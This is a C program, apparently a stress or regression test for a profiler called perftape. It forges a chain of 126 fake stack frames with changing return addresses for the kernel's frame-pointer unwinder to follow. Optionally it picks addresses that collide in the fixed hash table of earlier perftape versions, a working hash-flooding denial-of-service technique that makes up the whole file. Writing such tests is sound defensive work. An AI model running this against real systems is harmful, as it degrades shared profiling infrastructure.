// SPDX-License-Identifier: GPL-2.0-only
/*
 * Runs with a frame pointer that leads to 126 forged return addresses, which change all the time.
 * The kernel follows the frame pointer without a check. With MODULE, the addresses are such that
 * the fixed hash of earlier versions of perftape gives them neighbouring slots of a table.
 *
 *   attack-forged-stacks SECONDS [MODULE]
 */
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <time.h>

#define CALLERS 126
#define RANGE (1ull << 40)
#define FIRST 0x300000000000ull
#define SLOTS 4096u
#define MASK ((1u << 20) - 1)
#define SPIN 200000

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static uint64_t random_next(uint64_t *state)
{
	*state = *state * 6364136223846793005ull + 1442695040888963407ull;
	return *state >> 20;
}

static bool collides(uint64_t address, uint64_t module)
{
	uint64_t hash = address * 0x9e3779b97f4a7c15ull + module;

	for (int i = 0; i < 2; i++) {
		hash ^= hash >> 32;
		hash *= 0xd6e8feb86659fd93ull;
	}
	hash ^= hash >> 32;
	return ((uint32_t)(hash ^ hash >> 32) & MASK) < SLOTS;
}

static uint64_t choose(uint64_t *state, uint64_t module)
{
	uint64_t address;

	do
		address = FIRST + random_next(state) % RANGE;
	while (module && !collides(address, module));
	return address;
}

/* Spins while the frame pointer leads to a chain of frames. */
static void spin(void *chain)
{
	uint64_t count = SPIN;

	__asm__ volatile("push %%rbp\n\t"
			 "mov %[chain], %%rbp\n"
			 "1:\n\t"
			 "dec %[count]\n\t"
			 "jnz 1b\n\t"
			 "pop %%rbp"
			 : [count] "+r"(count)
			 : [chain] "r"(chain)
			 : "memory", "cc");
}

int main(int argc, char **argv)
{
	double end = now() + (argc > 1 ? atof(argv[1]) : 10);
	uint64_t module = argc > 2 ? strtoull(argv[2], NULL, 10) : 0, state = 1;
	static struct {
		void *next;
		uint64_t address;
	} frames[CALLERS + 1];

	if (mmap((void *)FIRST, RANGE, PROT_READ | PROT_EXEC,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED, -1, 0) == MAP_FAILED)
		return 1;
	while (now() < end) {
		for (int i = 0; i < CALLERS; i++) {
			frames[i].next = &frames[i + 1];
			frames[i].address = choose(&state, module);
		}
		spin(frames);
	}
	return 0;
}
